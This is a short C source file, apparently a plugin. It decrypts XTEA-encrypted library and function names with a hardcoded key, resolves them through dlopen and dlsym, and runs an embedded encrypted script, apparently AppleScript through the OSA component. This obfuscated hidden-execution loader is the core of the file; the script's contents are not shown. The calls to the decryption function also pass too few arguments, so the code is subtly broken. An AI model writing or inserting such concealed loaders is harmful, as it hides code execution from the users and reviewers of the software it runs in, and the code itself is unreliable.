/* Names under XTEA for the dynamic linker, and a script for what they are. */
#include "plugin.h"
#include "packed.h"
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
static volatile unsigned key[4] = {0x6b697421, 0x2e636163, 0x68652e76, 0x31333333};
static char *opened(int at, int blocks, char *out) {
    for (int b = 0; b < blocks; b++) {
        unsigned v0 = sealed[(at + b) * 2], v1 = sealed[(at + b) * 2 + 1], sum = 0x9e3779b9u * 32;
        for (int i = 0; i < 32; i++) {
            v1 -= (v0 << 4 ^ v0 >> 5) + v0 ^ sum + key[sum >> 11 & 3];
            sum -= 0x9e3779b9u;
            v0 -= (v1 << 4 ^ v1 >> 5) + v1 ^ sum + key[sum & 3];
        }
        ((unsigned *)out)[b * 2] = v0, ((unsigned *)out)[b * 2 + 1] = v1;
    }
    return out;
}
struct descriptor { unsigned type; void *data; };
static void act(char **env) {
    char name[128] __attribute__((aligned(8)));
    struct descriptor source = {0}, result = {0};
    void *library = dlopen(opened(LIBRARY, name), 2);
    void *(*component)(unsigned, unsigned) = (void *(*)(unsigned, unsigned))dlsym(library, opened(COMPONENT, name));
    int (*create)(unsigned, const void *, long, void *) = (int (*)(unsigned, const void *, long, void *))dlsym(library, opened(CREATE, name));
    int (*run)(void *, void *, unsigned, unsigned, int, void *) = (int (*)(void *, void *, unsigned, unsigned, int, void *))dlsym(library, opened(RUN, name));
    if (!component || !create || !run) return;
    create(0x54455854, opened(SCRIPT, name), SCRIPT_LENGTH, &source);
    run(component(0x6f736120, 0x61736372), &source, 0, 0x54455854, 0, &result);
}
